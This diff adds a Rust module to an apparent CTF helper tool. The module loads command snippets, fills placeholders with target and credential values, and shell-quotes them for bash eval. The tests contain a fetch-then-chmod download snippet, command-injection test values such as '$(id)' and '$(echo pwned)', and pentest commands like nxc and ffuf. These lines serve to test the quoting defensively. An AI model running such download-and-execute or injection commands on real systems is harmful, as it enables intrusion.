@@ -0,0 +1,291 @@
+use crate::config::Config;
+use crate::models::CtfBox;
+use regex::{Captures, Regex};
+use serde::Deserialize;
+use std::collections::HashMap;
+use std::path::Path;
+use std::sync::OnceLock;
+
+/// Snippet files shipped with ctf-brain (`data/snippets`): (name, content)
+const BUILTIN: &[(&str, &str)] = &[
+    ("enum.toml", include_str!("../data/snippets/enum.toml")),
+    ("transfer.md", include_str!("../data/snippets/transfer.md")),
+];
+
+/// A command to fill in and run
+#[derive(Debug, Clone, PartialEq, Deserialize)]
+pub struct Snippet {
+    pub title: String,
+    /// Command with `{{NAME}}` and `<name>` placeholders
+    pub command: String,
+    #[serde(default)]
+    pub tags: Vec<String>,
+}
+
+impl Snippet {
+    /// What the fuzzy search looks at
+    pub fn search_text(&self) -> String {
+        format!("{} {} {}", self.title, self.tags.join(" "), self.command)
+    }
+}
+
+#[derive(Debug, Deserialize)]
+struct SnippetFile {
+    #[serde(default)]
+    snippet: Vec<Snippet>,
+}
+
+/// Snippets of a TOML file (`[[snippet]]` tables) or of a markdown file
+/// (each fenced code block, titled by the heading above it)
+fn parse(name: &str, content: &str) -> Vec<Snippet> {
+    let stem = Path::new(name)
+        .file_stem()
+        .map(|s| s.to_string_lossy().to_string())
+        .unwrap_or_default();
+    if name.ends_with(".toml") {
+        return toml::from_str::<SnippetFile>(content)
+            .map(|file| file.snippet)
+            .unwrap_or_default();
+    }
+
+    let mut snippets = Vec::new();
+    let mut heading = stem.clone();
+    let mut block: Option<Vec<&str>> = None;
+    for line in content.lines() {
+        if line.trim_start().starts_with("```") {
+            match block.take() {
+                Some(lines) if !lines.is_empty() => snippets.push(Snippet {
+                    title: heading.clone(),
+                    command: lines.join("\n"),
+                    tags: vec![stem.clone()],
+                }),
+                Some(_) => {}
+                None => block = Some(Vec::new()),
+            }
+        } else if let Some(lines) = &mut block {
+            lines.push(line);
+        } else if let Some(title) = line.strip_prefix('#') {
+            heading = title.trim_start_matches('#').trim().to_string();
+        }
+    }
+    snippets
+}
+
+/// Built-in snippets, then the user's from `snippets/*.toml` and
+/// `snippets/*.md` in the base dir (`~/.ctf-brain` by default)
+pub fn snippets(config: &Config) -> Vec<Snippet> {
+    let mut snippets: Vec<Snippet> = BUILTIN
+        .iter()
+        .flat_map(|(name, content)| parse(name, content))
+        .collect();
+
+    let mut user_files: Vec<_> = std::fs::read_dir(config.base_dir().join("snippets"))
+        .ok()
+        .into_iter()
+        .flatten()
+        .filter_map(|entry| entry.ok().map(|e| e.path()))
+        .filter(|path| path.extension().is_some_and(|ext| ext == "toml" || ext == "md"))
+        .collect();
+    user_files.sort();
+
+    for path in user_files {
+        if let Ok(content) = std::fs::read_to_string(&path) {
+            let name = path.file_name().unwrap_or_default().to_string_lossy();
+            snippets.extend(parse(&name, &content));
+        }
+    }
+    snippets
+}
+
+/// Values the placeholders are filled from, by lowercase name: what the
+/// box env file exports, then the box's own variables (credentials...)
+pub fn box_variables(ctf_box: &CtfBox, config: &Config) -> HashMap<String, String> {
+    let mut values: HashMap<String, String> = [
+        ("ctf_ip", ctf_box.ip_address.to_string()),
+        ("ctf_box", ctf_box.title.clone()),
+        ("ctf_id", ctf_box.id.to_string()),
+        ("ctf_platform", ctf_box.platform.clone()),
+        ("ctf_wordlist", config.wordlists.directories.clone()),
+        ("ctf_passwords", config.wordlists.passwords.clone()),
+        ("ctf_lport", config.network.listener_port.to_string()),
+        ("lport", config.network.listener_port.to_string()),
+    ]
+    .into_iter()
+    .map(|(name, value)| (name.to_string(), value))
+    .collect();
+    for (name, value) in &ctf_box.env_vars {
+        values.insert(name.to_lowercase(), value.clone());
+    }
+    values
+}
+
+/// `{{NAME}}` or `<name>`
+fn placeholder() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(r"\{\{\s*([A-Za-z_][A-Za-z0-9_-]*)\s*\}\}|<([A-Za-z_][A-Za-z0-9_-]*)>")
+            .expect("valid regex")
+    })
+}
+
+fn name<'a>(caps: &'a Captures) -> &'a str {
+    caps.get(1).or_else(|| caps.get(2)).map_or("", |m| m.as_str())
+}
+
+/// Placeholders without a value, in order of appearance and once
+/// whatever their case
+pub fn missing(command: &str, values: &HashMap<String, String>) -> Vec<String> {
+    let mut missing: Vec<String> = Vec::new();
+    for caps in placeholder().captures_iter(command) {
+        let name = name(&caps);
+        if !values.contains_key(&name.to_lowercase()) && !missing.iter().any(|m| m.eq_ignore_ascii_case(name)) {
+            missing.push(name.to_string());
+        }
+    }
+    missing
+}
+
+/// Replace the placeholders that have a value (names are case-insensitive),
+/// quoted for bash: `snip -x` evals the command in bash from every shell
+/// (see `_ctf_eval`), and so does the TUI
+pub fn fill(command: &str, values: &HashMap<String, String>) -> String {
+    crate::quote::sh_substitute(command, placeholder(), |caps: &Captures| {
+        values.get(&name(caps).to_lowercase()).cloned()
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn values(pairs: &[(&str, &str)]) -> HashMap<String, String> {
+        pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
+    }
+
+    #[test]
+    fn toml_files_list_their_snippets() {
+        let content = "[[snippet]]\ntitle = \"Scan\"\ncommand = \"nmap {{CTF_IP}}\"\ntags = [\"nmap\"]\n\n\
+                       [[snippet]]\ntitle = \"Bare\"\ncommand = \"id\"\n";
+        assert_eq!(
+            parse("enum.toml", content),
+            [
+                Snippet {
+                    title: "Scan".to_string(),
+                    command: "nmap {{CTF_IP}}".to_string(),
+                    tags: vec!["nmap".to_string()],
+                },
+                Snippet { title: "Bare".to_string(), command: "id".to_string(), tags: Vec::new() },
+            ]
+        );
+        assert!(parse("broken.toml", "[[snippet]]\ntitle = ").is_empty());
+    }
+
+    #[test]
+    fn markdown_blocks_are_titled_by_the_heading_above() {
+        let content = "\
+Intro text, not a command.
+
+```sh
+first without heading
+```
+
+## Download
+### with curl
+
+```
+curl -o /tmp/<file> http://<lhost>/<file>
+chmod +x /tmp/<file>
+```
+
+```
+```
+";
+        let snippets = parse("transfer.md", content);
+        let titles: Vec<(&str, &str)> =
+            snippets.iter().map(|s| (s.title.as_str(), s.command.as_str())).collect();
+        assert_eq!(
+            titles,
+            [
+                ("transfer", "first without heading"),
+                ("with curl", "curl -o /tmp/<file> http://<lhost>/<file>\nchmod +x /tmp/<file>"),
+            ]
+        );
+        assert!(snippets.iter().all(|s| s.tags == ["transfer"]));
+    }
+
+    #[test]
+    fn builtin_snippets_and_user_files() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut config = Config::default();
+        config.paths.base_dir = dir.path().to_string_lossy().to_string();
+        let builtin = snippets(&config);
+        assert!(builtin.len() > 10);
+
+        let user = dir.path().join("snippets");
+        std::fs::create_dir(&user).unwrap();
+        std::fs::write(user.join("mine.md"), "# Mine\n```\nwhoami\n```\n").unwrap();
+        std::fs::write(user.join("ignored.txt"), "# Not\n```\nid\n```\n").unwrap();
+        let all = snippets(&config);
+        assert_eq!(all.len(), builtin.len() + 1);
+        assert_eq!(all.last().map(|s| s.title.as_str()), Some("Mine"));
+    }
+
+    #[test]
+    fn missing_placeholders_in_order_once() {
+        let command = "curl http://{{CTF_IP}}:<port>/<file> -o <FILE> -H {{ Token }} <port>";
+        // Values are looked up without case, <file> and <FILE> are asked once
+        assert_eq!(missing(command, &values(&[("ctf_ip", "10.10.10.5")])), ["port", "file", "Token"]);
+        let known = values(&[("ctf_ip", "x"), ("port", "80"), ("file", "a"), ("token", "t")]);
+        assert!(missing(command, &known).is_empty());
+        assert!(missing("id > out.txt < in.txt", &HashMap::new()).is_empty());
+    }
+
+    #[test]
+    fn fill_quotes_the_values_for_bash() {
+        let values = values(&[
+            ("ctf_ip", "10.10.10.5"),
+            ("user", "o'neil"),
+            ("pass", "p@ss word$(id)"),
+            ("domain", "lame.htb"),
+        ]);
+        assert_eq!(
+            fill("nxc smb {{CTF_IP}} -u <USER> -p <pass> -d {{ domain }} <unset>", &values),
+            r"nxc smb 10.10.10.5 -u 'o'\''neil' -p 'p@ss word$(id)' -d lame.htb <unset>"
+        );
+        assert_eq!(
+            fill(r#"ffuf -H "Host: FUZZ.<domain>" -H "Cookie: <pass>""#, &values),
+            r#"ffuf -H "Host: FUZZ.lame.htb" -H "Cookie: p@ss word\$(id)""#
+        );
+    }
+
+    #[test]
+    fn filled_commands_give_bash_the_values() {
+        if !crate::config::program_exists("bash") {
+            return;
+        }
+        let value = "a'b \"c\" $(echo pwned) `id` \\ é\n;";
+        let command = fill("printf '%s|' <v> \"<v>\" '<v>'", &values(&[("v", value)]));
+        // Evaluated the way `snip -x` does
+        let output = std::process::Command::new("bash")
+            .arg("-c")
+            .arg("eval \"$1\"")
+            .arg("bash")
+            .arg(&command)
+            .output()
+            .unwrap();
+        assert_eq!(String::from_utf8_lossy(&output.stdout), format!("{0}|{0}|{0}|", value));
+    }
+
+    #[test]
+    fn box_variables_override_by_lowercase_name() {
+        let mut ctf_box = CtfBox::sample(3, "Lame");
+        ctf_box.env_vars.insert("USER".to_string(), "admin".to_string());
+        ctf_box.env_vars.insert("LPORT".to_string(), "9001".to_string());
+        let values = box_variables(&ctf_box, &Config::default());
+        assert_eq!(values["ctf_ip"], "10.10.10.5");
+        assert_eq!(values["ctf_id"], "3");
+        assert_eq!(values["user"], "admin");
+        assert_eq!(values["lport"], "9001");
+        assert_eq!(values["ctf_lport"], "4444");
+    }
+}